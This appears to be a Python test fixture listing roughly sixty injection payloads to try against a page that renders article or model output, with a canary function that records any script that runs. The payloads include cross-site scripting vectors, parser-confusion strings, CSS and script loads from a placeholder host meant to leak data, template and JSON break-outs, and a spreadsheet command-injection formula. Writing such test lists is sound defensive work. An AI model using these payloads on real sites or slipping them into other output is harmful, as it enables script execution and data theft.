"""What an article or a model could try on a page that shows it."""

ATTACKS = [
    "<script>fired()</script>",  # the plain one
    "</script><script>fired()</script>",  # ends the data's own element
    "</SCRIPT ><ScRiPt>fired()</ScRiPt>",  # whatever the case
    "<!--<script>fired()//-->",  # opens the escaped state of script data
    "--><script>fired()</script><!--",  # ends a comment
    "<!--</script><svg onload=fired()>-->",  # comment and end in one
    "]]><script>fired()</script>",  # ends a CDATA section
    "<img src=x onerror=fired()>",  # an event handler
    '"><img src=x onerror="fired()">',  # out of a quoted attribute
    "' onmouseover='fired()' x='",  # a handler in a single-quoted attribute
    '" autofocus onfocus=fired() x="',  # runs without a click
    "` onmouseover=fired() `",  # old browsers' third quotation mark
    "<svg onload=fired()>",  # SVG
    "<svg><script>fired()</script></svg>",  # SVG's own script
    '<svg><a xlink:href="javascript:fired()"><text y="20">here</text></a></svg>',  # a link in SVG
    "<svg><animate onbegin=fired() attributeName=x dur=1s>",  # SVG's own events
    '<math><mtext><table><mglyph><style><img src=x onerror="fired()">',  # MathML's parsing rules
    '<math href="javascript:fired()">here</math>',  # a link in MathML
    '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',  # a document in an attribute
    '<iframe src="javascript:parent.fired()"></iframe>',  # a frame's address
    '<object data="data:text/html,<script>fired()</script>"></object>',  # a plug-in
    "<embed src=javascript:fired()>",  # and another
    '<a href="javascript:fired()">here</a>',  # a link
    "javascript:fired()",  # the bare address
    "jav&#x09;ascript:fired()",  # hidden by a character reference
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",  # a data address
    '<meta http-equiv="refresh" content="0;url=javascript:fired()">',  # leads away
    '<base href="https://example.invalid/">',  # moves every address
    '<link rel="stylesheet" href="https://example.invalid/x.css">',  # a style from elsewhere
    "<style>*{background:url(https://example.invalid/leak)}</style>",  # a style here
    "</style><img src=x onerror=fired()>",  # ends the page's own style
    "red;background-image:url(https://example.invalid/leak)",  # out of a declaration
    "}*{display:none}body::after{content:'fired'}",  # out of a rule
    "expression(fired())",  # a script in a style
    '<noscript><p title="</noscript><img src=x onerror=fired()>">',  # read differently with and without scripts
    "<template><script>fired()</script></template>",  # inert until it is cloned
    "<details open ontoggle=fired()>",  # an element's own event
    "<form action=javascript:fired()><button>here</button></form>",  # a form
    "<input onfocus=fired() autofocus>",  # an input
    "<body onload=fired()>",  # the body's own events
    "<marquee onstart=fired()>",  # forgotten elements
    "<video><source onerror=fired()></video>",  # media
    "{{constructor.constructor('fired()')()}}",  # a template's braces
    "${fired()}",  # a template string
    "@@SCRIPT@@ @@DATA@@",  # this page's own places
    "\\u003cscript\\u003efired()\\u003c/script\\u003e",  # escapes that a second reading would undo
    '","x":fired(),"y":"',  # out of a JSON string
    "\\",  # eats the quotation mark behind it
    "\u2028fired()\u2029",  # ends a line in old scripts
    "\ufeff\u202efired()\u202c\u2066x\u2069",  # turns the reading order
    "\u0000<\u0000script>fired()</script>",  # a character that parsers drop
    "＜script＞fired()＜/script＞",  # full-width brackets, which a careless normalisation would turn
    "\U0001f6df<b onmouseover=fired()>\U0001f6df",  # characters of two units
    "__proto__",  # a key that is more than a key
    "constructor",  # and another
    "toString",  # a name that every object has
    "x' or \"y\" [data-item] > * { }",  # quotation marks and a selector's signs
    'hasOwnProperty"]);fired();(["',  # out of a call
    "<script type=\"module\">import('https://example.invalid/x.js')</script>",  # a module
    "<script src=//example.invalid/x.js></script>",  # a script from elsewhere
    "=cmd|'/c calc'!A1",  # a formula
    "%3Cscript%3Efired()%3C/script%3E",  # percent signs
    "&lt;script&gt;fired()&lt;/script&gt; &amp;",  # references stay as they are
    "&NewLine;&colon;&lpar;",  # named references
]  # fmt: skip
"""Each is tried in every place of a run that an article, a model or a forger can fill."""

CANARY = "window.hits = []; window.fired = (...given) => { window.hits.push(String(given)); };"
